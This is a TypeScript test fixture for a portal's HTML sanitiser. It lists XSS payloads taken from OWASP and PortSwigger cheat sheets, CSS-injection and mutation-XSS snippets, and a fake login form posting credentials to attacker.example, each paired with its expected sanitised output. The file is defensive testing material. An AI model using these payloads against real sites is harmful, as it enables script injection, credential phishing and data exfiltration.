/**
 * Hostile HTML from public cheat sheets (OWASP « XSS Filter Evasion », PortSwigger « Cross-site
 * scripting cheat sheet », CSS-injection write-ups, DOMPurify's mXSS reports), each with what
 * the policy must keep, as the portal's DOM writes it.
 */
export interface HostileCase {
  source: 'OWASP' | 'PortSwigger' | 'CSS' | 'mXSS' | 'issue 28';
  html: string;
  kept: string;
  /**
   * What DOMPurify keeps from the raw snippet where the browser's HTML parser reads it otherwise
   * than htmlparser2 (foreign content, `<noscript>` with scripting off): never anything hostile,
   * and what the sandbox stored is still shown as `kept`.
   */
  rawDisplay?: string;
}

export const HOSTILE: HostileCase[] = [
  // OWASP XSS Filter Evasion Cheat Sheet
  { source: 'OWASP', html: '<SCRIPT SRC=https://xss.rocks/xss.js></SCRIPT>', kept: '' },
  { source: 'OWASP', html: '<IMG SRC="javascript:alert(\'XSS\');">', kept: '' },
  { source: 'OWASP', html: '<IMG SRC=javascript:alert(\'XSS\')>', kept: '' },
  { source: 'OWASP', html: '<IMG SRC=JaVaScRiPt:alert(\'XSS\')>', kept: '' },
  { source: 'OWASP', html: '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>', kept: '' },
  { source: 'OWASP', html: '<a onmouseover="alert(document.cookie)">xxs link</a>', kept: '<a>xxs link</a>' },
  { source: 'OWASP', html: '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>', kept: '"\\&gt;' },
  { source: 'OWASP', html: '<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>', kept: '' },
  { source: 'OWASP', html: '<IMG SRC=# onmouseover="alert(\'xxs\')">', kept: '' },
  { source: 'OWASP', html: '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>', kept: '' },
  { source: 'OWASP', html: '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">', kept: '' },
  { source: 'OWASP', html: '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>', kept: '' },
  { source: 'OWASP', html: '<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>', kept: '' },
  { source: 'OWASP', html: '<IMG SRC="jav\tascript:alert(\'XSS\');">', kept: '' },
  { source: 'OWASP', html: '<IMG SRC="jav&#x09;ascript:alert(\'XSS\');">', kept: '' },
  { source: 'OWASP', html: '<IMG SRC="jav&#x0A;ascript:alert(\'XSS\');">', kept: '' },
  { source: 'OWASP', html: '<IMG SRC=" &#14;  javascript:alert(\'XSS\');">', kept: '' },
  { source: 'OWASP', html: '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>', kept: '' },
  { source: 'OWASP', html: '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>', kept: '' },
  { source: 'OWASP', html: '<<SCRIPT>alert("XSS");//\\<</SCRIPT>', kept: '&lt;' },
  { source: 'OWASP', html: '<SCRIPT SRC=http://xss.rocks/xss.js?< B >', kept: '' },
  { source: 'OWASP', html: '<IMG SRC="`<javascript:alert>`(\'XSS\')"', kept: '' },
  { source: 'OWASP', html: '</TITLE><SCRIPT>alert("XSS");</SCRIPT>', kept: '' },
  { source: 'OWASP', html: '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">', kept: '' },
  { source: 'OWASP', html: '<BODY BACKGROUND="javascript:alert(\'XSS\')">', kept: '' },
  { source: 'OWASP', html: '<IMG DYNSRC="javascript:alert(\'XSS\')">', kept: '' },
  { source: 'OWASP', html: '<IMG LOWSRC="javascript:alert(\'XSS\')">', kept: '' },
  { source: 'OWASP', html: '<svg/onload=alert(\'XSS\')>', kept: '' },
  { source: 'OWASP', html: '<BGSOUND SRC="javascript:alert(\'XSS\');">', kept: '' },
  { source: 'OWASP', html: '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">', kept: '' },
  { source: 'OWASP', html: '<LINK REL="stylesheet" HREF="http://xss.rocks/xss.css">', kept: '' },
  { source: 'OWASP', html: '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">', kept: '' },
  { source: 'OWASP', html: '<META HTTP-EQUIV="Link" Content="<http://xss.rocks/xss.css>; REL=stylesheet">', kept: '' },
  { source: 'OWASP', html: '<IFRAME SRC="javascript:alert(\'XSS\');"></IFRAME>', kept: '' },
  { source: 'OWASP', html: '<FRAMESET><FRAME SRC="javascript:alert(\'XSS\');"></FRAMESET>', kept: '' },
  { source: 'OWASP', html: '<TABLE BACKGROUND="javascript:alert(\'XSS\')"><tr><td>Cellule</td></tr></TABLE>', kept: '<table><tbody><tr><td>Cellule</td></tr></tbody></table>' },
  { source: 'OWASP', html: '<TD BACKGROUND="javascript:alert(\'XSS\')">Cellule seule', kept: 'Cellule seule' },
  { source: 'OWASP', html: '<DIV STYLE="background-image: url(javascript:alert(\'XSS\'))">Texte</DIV>', kept: 'Texte' },
  { source: 'OWASP', html: '<DIV STYLE="width: expression(alert(\'XSS\'));">Texte</DIV>', kept: 'Texte' },
  { source: 'OWASP', html: '<BASE HREF="javascript:alert(\'XSS\');//">', kept: '' },
  { source: 'OWASP', html: '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>', kept: '' },
  { source: 'OWASP', html: '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>', kept: '' },
  { source: 'OWASP', html: '<A HREF="http://%77%77%77%2E%67%6F%6F%67%6C%65%2E%63%6F%6D">XSS</A>', kept: '<a href="http://%77%77%77%2E%67%6F%6F%67%6C%65%2E%63%6F%6D" rel="noopener noreferrer" target="_blank">XSS</A>'.replace('</A>', '</a>') },
  { source: 'OWASP', html: '<A HREF="//www.google.com/">XSS</A>', kept: '<a>XSS</a>' },
  { source: 'OWASP', html: '<A HREF="javascript:document.location=\'http://www.google.com/\'">XSS</A>', kept: '<a>XSS</a>' },
  // PortSwigger XSS cheat sheet
  { source: 'PortSwigger', html: '<a href="javascript&colon;alert(1)">clic</a>', kept: '<a>clic</a>' },
  { source: 'PortSwigger', html: '<a href="&#106;avascript:alert(1)">clic</a>', kept: '<a>clic</a>' },
  { source: 'PortSwigger', html: '<a href=" javascript:alert(1)">clic</a>', kept: '<a>clic</a>' },
  { source: 'PortSwigger', html: '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">clic</a>', kept: '<a>clic</a>' },
  { source: 'PortSwigger', html: '<a href="vbscript:msgbox(1)">clic</a>', kept: '<a>clic</a>' },
  { source: 'PortSwigger', html: '<details open ontoggle=alert(1)>Détails</details>', kept: 'Détails' },
  { source: 'PortSwigger', html: '<video><source onerror=alert(1)></video>', kept: '' },
  { source: 'PortSwigger', html: '<audio src/onerror=alert(1)>', kept: '' },
  { source: 'PortSwigger', html: '<body onpageshow=alert(1)>Bonjour', kept: 'Bonjour' },
  { source: 'PortSwigger', html: '<p onanimationstart=alert(1) style="animation-name:x">Texte</p>', kept: '<p>Texte</p>' },
  { source: 'PortSwigger', html: '<form action="javascript:alert(1)"><button>Envoyer</button></form>', kept: 'Envoyer' },
  { source: 'PortSwigger', html: '<button formaction="javascript:alert(1)">Envoyer</button>', kept: 'Envoyer' },
  { source: 'PortSwigger', html: '<input autofocus onfocus=alert(1)>', kept: '' },
  { source: 'PortSwigger', html: '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>', kept: '' },
  { source: 'PortSwigger', html: '<iframe srcdoc="<script>alert(1)</script>"></iframe>', kept: '' },
  { source: 'PortSwigger', html: '<object data="javascript:alert(1)"></object>', kept: '' },
  { source: 'PortSwigger', html: '<img src="https://attacker.example/pixel.png" alt="suivi">', kept: '' },
  { source: 'PortSwigger', html: '<img srcset="https://attacker.example/a.png 1x" src="data:image/png;base64,iVBORw0KGgo=" alt="x">', kept: '<img src="data:image/png;base64,iVBORw0KGgo=" alt="x">' },
  { source: 'PortSwigger', html: '<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=">', kept: '' },
  { source: 'PortSwigger', html: '<img src="data:text/html,<script>alert(1)</script>">', kept: '' },
  // CSS injection: style sheets, inline styles, remote resources through CSS, restyled or overlaid pages
  { source: 'CSS', html: '<style>@import url("https://attacker.example/x.css");</style><p>Texte</p>', kept: '<p>Texte</p>' },
  { source: 'CSS', html: '<style>input[value^="a"]{background:url(https://attacker.example/a)}</style>', kept: '' },
  { source: 'CSS', html: '<style>*{display:none}</style>Bonjour', kept: 'Bonjour' },
  { source: 'CSS', html: '<p style="position:fixed;top:0;left:0;width:100vw;height:100vh;background:#fff">Connexion</p>', kept: '<p>Connexion</p>' },
  { source: 'CSS', html: '<p style="background:url(https://attacker.example/beacon)">Texte</p>', kept: '<p>Texte</p>' },
  { source: 'CSS', html: '<p class="ap-login ap-modal">Texte</p>', kept: '<p>Texte</p>' },
  { source: 'CSS', html: '<strong id="ap-root" name="x">Gras</strong>', kept: '<strong>Gras</strong>' },
  { source: 'CSS', html: '<link rel="stylesheet" href="https://attacker.example/x.css"><p>Texte</p>', kept: '<p>Texte</p>' },
  { source: 'CSS', html: '<svg><style>@import "https://attacker.example/x.css";</style></svg>Texte', kept: 'Texte' },
  { source: 'CSS', html: '<font face="Arial" color="red">Texte</font>', kept: 'Texte' },
  // mutation XSS (DOMPurify and sanitize-html advisories)
  { source: 'mXSS', html: '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', kept: '', rawDisplay: '<p></p>' },
  { source: 'mXSS', html: '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">', kept: '', rawDisplay: '<p></p>"&gt;' },
  { source: 'mXSS', html: '<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">', kept: '' },
  { source: 'mXSS', html: '<template><script>alert(1)</script></template>', kept: '' },
  { source: 'mXSS', html: '<xmp><p title="</xmp><img src=x onerror=alert(1)>">', kept: '"&gt;' },
  { source: 'mXSS', html: '<!--<img src=x onerror=alert(1)>-->Texte', kept: 'Texte' },
  { source: 'mXSS', html: '<textarea><img src=x onerror=alert(1)></textarea>', kept: '' },
  // issue 28: the adviser's note that restyled the portal and drew a fake login form
  {
    source: 'issue 28',
    html: '<style>.ap-shell{display:none}</style><form action="https://attacker.example/login" method="post"><p>Session expirée</p><input name="login"><input type="password" name="password"><button type="submit">Se connecter</button></form><img src="https://attacker.example/t.gif">',
    kept: '<p>Session expirée</p>Se connecter',
  },
  { source: 'issue 28', html: '<p>Rappeler <a href="mailto:famille@example.fr" target="_self">la famille</a> au <a href="tel:+33123456789">01 23 45 67 89</a>.</p>', kept: '<p>Rappeler <a href="mailto:famille@example.fr" rel="noopener noreferrer" target="_blank">la famille</a> au <a href="tel:+33123456789" rel="noopener noreferrer" target="_blank">01 23 45 67 89</a>.</p>' },
  { source: 'issue 28', html: '<p><img src="/private/medias/12/download" alt="Plan d\'accès"></p>', kept: '<p><img src="/private/medias/12/download" alt="Plan d\'accès"></p>' },
  { source: 'issue 28', html: '<img src="/private/medias/12/download/../../../auth/logout" alt="x">', kept: '' },
];
